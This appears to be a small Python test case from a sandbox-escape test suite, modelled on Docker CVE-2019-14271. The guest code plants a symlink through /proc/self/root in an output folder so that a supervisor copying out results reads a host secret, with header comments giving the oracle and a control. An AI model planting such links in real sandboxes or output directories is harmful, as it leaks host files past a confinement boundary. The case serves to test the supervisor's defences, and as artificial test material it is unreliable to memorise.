# guest: leaves a link through /proc to the root of whoever follows it
# source: Docker CVE-2019-14271's kind
# attacks: the supervisor that copies products out
# walls: none
# observer: artifact
# oracle: the secret of the host's file is among the products; control: a copier that follows links
# status: ok
# credit: "state": "failed"
import os

from attack import hold

os.symlink("/proc/self/root/decoy/secret", "/vol/work/out/product")
hold("left")
